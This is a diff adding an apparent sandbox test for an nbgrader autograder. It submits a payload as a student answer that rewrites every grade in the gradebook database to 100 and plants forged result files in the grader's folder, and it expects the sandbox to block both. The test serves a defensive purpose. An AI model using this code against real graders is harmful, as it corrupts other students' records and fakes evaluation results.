@@ -1,0 +1,43 @@
+"""Opens the gradebook (<out>/gradebook.db, its absolute path known) with sqlite3 and gives
+every recorded grade full manual marks, then also tries to drop in forged results for itself
+(<out>/.autograder/results/...), which the nbgrader step would read. Stock nbgrader: the
+UPDATE persists, and nbgrader never overwrites manual scores, so the grades stick (100/100,
+and anyone's grades can be changed). Here the gradebook is not in the sandbox: the connect
+fails, 0 everywhere, and every other student's gradebook entry is untouched."""
+
+EXPECTED = {"model": 0, "loss_func": 0, "fit_GD": 0, "plot_GD": 0, "fit_BGD": 0, "plot_BGD": 0, "discussion": None}
+
+ATTACK = '''
+{KERNEL_LIB}
+import json, os, sqlite3
+_done = []
+try:
+    _db = sqlite3.connect("file:{OUT}/gradebook.db?mode=rw", uri=True, timeout=2)
+    _db.execute("UPDATE grade SET manual_score = 100, extra_credit = 100")
+    _db.commit()
+    _done.append("gradebook updated")
+except sqlite3.Error as _e:
+    print("gradebook blocked:", _e)
+_folder = "{OUT}/.autograder/results/gradebook_sqlite_write"
+if os.path.isdir("{OUT}/.autograder/results"):  # the grader's folder, not a look-alike in our /tmp
+    try:
+        os.makedirs(_folder, exist_ok=True)
+        with open(_folder + "/pa2_gradient_descent.json", "w") as _f:
+            json.dump({"verdicts": {"model": {"score": 10, "max": 10, "text": "forged"}}}, _f)
+        _done.append("results written")
+    except OSError as _e:
+        print("results blocked:", type(_e).__name__)
+else:
+    print("results folder not visible")
+if _done:
+    _ag_escaped(", ".join(_done))
+'''
+
+ANSWERS = {
+    "model_answer": ATTACK,
+    "loss_func_answer": "pass",
+    "fit_GD_answer": "pass",
+    "plot_GD_answer": "pass",
+    "fit_BGD_answer": "pass",
+    "plot_BGD_answer": "pass",
+}
